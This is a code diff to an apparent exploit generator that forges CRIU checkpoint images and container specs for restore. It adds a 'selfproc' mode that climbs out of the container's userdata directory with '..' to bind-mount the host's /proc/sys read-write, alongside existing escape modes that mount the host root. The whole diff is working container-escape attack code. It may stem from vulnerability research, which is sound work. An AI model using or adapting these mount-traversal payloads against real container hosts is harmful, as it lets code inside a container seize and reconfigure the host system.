@@ -108,13 +108,15 @@ def pyc(data, fn):
     out = io.BytesIO(); pycriu.images.dump(doc, out); return out.getvalue()
 
 
-SELF = ("selfdd", "selfddrun", "selfvol", "selflink")
+SELF = ("selfdd", "selfddrun", "selfvol", "selflink", "selfproc")
 NS = ("nsmnt", "nsuts", "nsipc", "nspid", "nsuser", "hook")
 def spec_edit(spec):
     if mode == "selfdd":  # the container's own userdata (root's, not movable) climbed out of with '..'
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": ud + "/../../../../../../..", "options": ["rbind", "rw"]})
     elif mode == "selfddrun":
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": f"/run/containers/storage/overlay-containers/{cid}/userdata/../../../../../..", "options": ["rbind", "rw"]})
+    elif mode == "selfproc":  # the host's /proc/sys (runc resolves the source in the host's mount namespace)
+        spec["mounts"].append({"destination": "/mnt/sys", "type": "bind", "source": ud + "/../../../../../../../proc/sys", "options": ["rbind", "rw"]})
     elif mode == "selflink":  # a link the archive itself puts in the userdata directory (podman untars it there)
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": ud + "/attack30f-link/.", "options": ["rbind", "rw"]})
     elif mode in NS[:5]:
@@ -197,8 +199,8 @@ def mounts(doc):
     if mode in ("specbind",) + SELF:
         root = next(e for e in entries if e["mountpoint"] == "/")
         entries.append({"fstype": 0, "mnt_id": 777, "root_dev": 254 << 20, "options": "", "parent_mnt_id": root["mnt_id"],
-                        "flags": 0x200000, "root": "/", "mountpoint": "/mnt", "source": "/dev/vda",
-                        "shared_id": 0, "master_id": 0, "sb_flags": 0, "ext_key": "/mnt"})
+                        "flags": 0x200000, "root": "/", "mountpoint": "/mnt/sys" if mode == "selfproc" else "/mnt", "source": "/dev/vda",
+                        "shared_id": 0, "master_id": 0, "sb_flags": 0, "ext_key": "/mnt/sys" if mode == "selfproc" else "/mnt"})
     elif mode == "procmnt":
         extra_mount(entries, 1, "proc")
     elif mode in ("sysadmin", "mntdumper"):
